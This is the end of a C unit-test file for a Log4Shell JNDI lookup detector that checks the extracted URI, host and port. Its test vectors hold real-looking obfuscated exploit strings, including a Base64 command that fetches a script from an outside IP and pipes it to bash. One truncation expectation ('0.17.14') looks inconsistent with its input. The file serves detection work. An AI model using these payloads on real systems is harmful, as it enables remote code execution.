        {"${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}",
         "world80.log4j.binaryedge.io:80/callback", "world80.log4j.binaryedge.io:80", "world80.log4j.binaryedge.io",
         "80"},
        {"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://45.155.205.233:12344/Basic/Command/Base64/"
         "KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xOTguNzEuMjQ3LjkxOjgwfHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjIzMzo1ODc0Lz"
         "E5OC43MS4yNDcuOTE6ODApfGJhc2g=}",
         "45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xOTguNzEuMjQ3LjkxOjgwfHx3"
         "Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjIzMzo1ODc0LzE5OC43MS4yNDcuOTE6ODApfGJhc2g=",
         "45.155.205.233:12344", "45.155.205.233", "12344"},
        {"Bearer ${jndi:ldap://45.83.193.150:1389/Exploit}", "45.83.193.150:1389/Exploit", "45.83.193.150:1389",
         "45.83.193.150", "1389"},
        {"${jndi:dns://45.83.64.1/securityscan-http80}", "45.83.64.1/securityscan-http80", "45.83.64.1",
         "45.83.64.1", "-"},
        {"${jndi:ldap://http80useragent.kryptoslogic-cve-2021-44228.com/http80useragent}",
         "http80useragent.kryptoslogic-cve-2021-44228.com/http80useragent",
         "http80useragent.kryptoslogic-cve-2021-44228.com", "http80useragent.kryptoslogic-cve-2021-44228.com", "-"},
        {"${jndi:ldap://172.16.238.11:1389/a}", "172.16.238.11:1389/a", "172.16.238.11:1389", "172.16.238.11", "1389"},
        /* Their split: the last "//" piece, so a lookup with no "//" keeps everything before the '}'. */
        {"${jndi:ldap:addr}", "${jndi:ldap:addr", "${jndi:ldap:addr", "${jndi", "ldap:addr"},
    };
    char uri[512], stem[512], host[512], port[512];

    (void)state;
    for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
        jndi_corelight_target((const uint8_t *)v[i].in, strlen(v[i].in), uri, stem, host, port, sizeof(uri));
        if (strcmp(uri, v[i].uri) != 0 || strcmp(stem, v[i].stem) != 0 || strcmp(host, v[i].host) != 0 ||
            strcmp(port, v[i].port) != 0)
            fail_msg("vector %zu: uri '%s' stem '%s' host '%s' port '%s'", i, uri, stem, host, port);
    }
    /* Small buffers cut, never overflow. */
    jndi_corelight_target((const uint8_t *)v[1].in, strlen(v[1].in), uri, stem, host, port, 8);
    assert_string_equal(uri, "0.17.14");
    assert_string_equal(host, "0.17.14");
    assert_string_equal(port, "-");
    jndi_corelight_target((const uint8_t *)v[1].in, strlen(v[1].in), uri, stem, host, port, 1);
    assert_string_equal(uri, "");
    assert_string_equal(port, "");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain),
        cmocka_unit_test(test_schemes),
        cmocka_unit_test(test_case_lookups),
        cmocka_unit_test(test_defaults),
        cmocka_unit_test(test_dollar_escape),
        cmocka_unit_test(test_dotless_i),
        cmocka_unit_test(test_url),
        cmocka_unit_test(test_escapes),
        cmocka_unit_test(test_html),
        cmocka_unit_test(test_base64_lookup),
        cmocka_unit_test(test_unknown_values),
        cmocka_unit_test(test_target_forms),
        cmocka_unit_test(test_multiple_and_embedded),
        cmocka_unit_test(test_max_and_count),
        cmocka_unit_test(test_outermost_and_lines),
        cmocka_unit_test(test_negatives),
        cmocka_unit_test(test_cut_fields),
        cmocka_unit_test(test_cap_depth),
        cmocka_unit_test(test_cap_size),
        cmocka_unit_test(test_scan_base64),
        cmocka_unit_test(test_corelight_match),
        cmocka_unit_test(test_corelight_target),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
